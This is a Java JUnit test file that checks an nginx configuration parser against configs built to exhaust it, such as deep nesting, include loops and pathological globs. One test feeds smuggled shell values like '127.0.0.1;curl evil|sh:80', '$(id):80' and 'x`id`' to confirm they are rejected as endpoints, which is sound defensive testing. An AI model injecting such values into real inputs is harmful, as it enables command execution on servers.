package dev.chatops.nginx.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** Configs built to exhaust the reader: deep nesting, include loops, odd globs; each is read in bounded time and memory. */
class HostileConfigTest {

    @Test
    void fiveThousandNestedBlocks_areReadWithoutRecursionPerLevel() {
        int depth = 5000;
        String text = "http {\n server {\n  listen 8080;\n  server_name deep.example.com;\n"
                + "  location / {\n".repeat(depth) + "   proxy_pass http://127.0.0.1:3000;\n" + "  }\n".repeat(depth)
                + " }\n}\n";
        ConfigParser p = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> ConfigParser.parsed(text, "/deep.conf"));
        assertTrue(p.problems().stream().anyMatch(s -> s.contains("nested deeper")), p.problems().toString());
        NginxConfig c = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> NginxConfig.from(ConfigDump.parse(
                "# configuration file /etc/nginx/nginx.conf:\n" + text), "/etc/nginx/"));
        assertEquals(1, c.servers().size());
        assertEquals("deep.example.com", c.servers().get(0).primaryName());
        assertTrue(c.servers().get(0).allLocations().size() < ConfigParser.MAX_DEPTH, "locations kept: "
                + c.servers().get(0).allLocations().size());
        // the location lookup walks the kept levels only
        assertTrue(NginxConfig.locationFor(c.servers().get(0), "/x").isPresent());
    }

    @Test
    void selfIncludingGlob_ofThreeFiles_endsWithEachServerOnceOnTop() {
        StringBuilder dump = new StringBuilder("# configuration file /etc/nginx/nginx.conf:\n"
                + "http {\n    include conf.d/*.conf;\n}\n\n");
        for (String name : List.of("a", "b", "c")) {
            dump.append("# configuration file /etc/nginx/conf.d/").append(name).append(".conf:\n")
                    .append("include conf.d/*.conf;\nserver {\n    listen 80;\n    server_name ").append(name)
                    .append(".example.com;\n    location / { proxy_pass http://127.0.0.1:300").append(name.charAt(0) - 'a')
                    .append("; }\n}\n\n");
        }
        NginxConfig c = assertTimeoutPreemptively(Duration.ofSeconds(20),
                () -> NginxConfig.from(ConfigDump.parse(dump.toString()), "/etc/nginx/"));
        List<String> names = c.servers().stream().map(ServerBlock::primaryName).toList();
        assertTrue(names.containsAll(List.of("a.example.com", "b.example.com", "c.example.com")), names.toString());
        // every chain of distinct files at most once: 3 + 3·2 + 3·2·1 server blocks, never an explosion
        assertTrue(names.size() <= 15, names.size() + " servers");
        assertEquals(3, c.endpoints().size(), c.endpoints().toString());
    }

    @Test
    void manyFilesIncludingEachOther_stayWithinTheDirectiveCap() {
        StringBuilder dump = new StringBuilder("# configuration file /etc/nginx/nginx.conf:\nhttp {\n    include conf.d/*.conf;\n}\n\n");
        for (int i = 0; i < 12; i++) {
            dump.append("# configuration file /etc/nginx/conf.d/f").append(i).append(".conf:\n")
                    .append("include conf.d/*.conf;\n").append("proxy_set_header X-A a;\n".repeat(50)).append('\n');
        }
        NginxConfig c = assertTimeoutPreemptively(Duration.ofSeconds(30),
                () -> NginxConfig.from(ConfigDump.parse(dump.toString()), "/etc/nginx/"));
        int count = c.http().orElseThrow().children().size();
        assertTrue(count > 0 && count <= NginxConfig.MAX_DIRECTIVES, count + " directives");
    }

    @Test
    void globs_fromTheHost_neverThrowAndMatchLikeTheShell() {
        assertTrue(Glob.matches("/etc/nginx/[!x]*.conf", "/etc/nginx/a.conf"));
        assertFalse(Glob.matches("/etc/nginx/[!a]*.conf", "/etc/nginx/a.conf"));
        assertTrue(Glob.matches("/etc/*/x", "/etc/nginx/x"));
        assertFalse(Glob.matches("/etc/*", "/etc/nginx/x"));
        Random random = new Random(7);
        String alphabet = "*?[]!^-\\/a.{}()+|$&&::";
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            for (int i = 0; i < 20_000; i++) {
                StringBuilder g = new StringBuilder("/");
                for (int k = random.nextInt(40); k > 0; k--) {
                    g.append(alphabet.charAt(random.nextInt(alphabet.length())));
                }
                Glob.matches(g.toString(), "/etc/nginx/conf.d/" + "a".repeat(random.nextInt(60)) + ".conf");
            }
            // the classic exponential case for backtracking matchers
            assertFalse(Glob.matches("/" + "*a".repeat(40) + "b", "/" + "a".repeat(200)));
        });
    }

    @Test
    void manyUnclosedVariables_areReadInLinearTime() {
        String text = "set $a " + "${".repeat(400_000) + ";\nhttp { }\n";
        List<Directive> ds = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> ConfigParser.parse(text, "/v.conf"));
        assertFalse(ds.isEmpty());
    }

    @Test
    void hostileAddresses_areNotEndpoints() {
        for (String bad : List.of("127.0.0.1;curl evil|sh:80", "a b:80", "$(id):80", "x`id`", "unix:/run/a;b.sock",
                "unix:/run/a\nb.sock", "[::1;]:80", "host:99999")) {
            assertEquals(Optional.empty(), Endpoint.parse(bad, 80), bad);
        }
        assertEquals(Optional.of(Endpoint.tcp("backend_app", 80)), Endpoint.parse("backend_app", 80));
        assertEquals(Optional.of(Endpoint.unix("/run/php/php8.2-fpm.sock")), Endpoint.parse("unix:/run/php/php8.2-fpm.sock:", 80));
    }

    @Test
    void directiveText_staysOnOneLine() {
        List<Directive> ds = ConfigParser.parse("add_header X \"a\\nb\\rc\";\nreturn 200 'x\u0001y';\n", "/x.conf");
        for (Directive d : ds) {
            assertTrue(d.text().chars().noneMatch(ch -> ch < 0x20), d.text());
        }
        assertEquals("add_header X \"a\\nb\\rc\";", ds.get(0).text());
    }
}
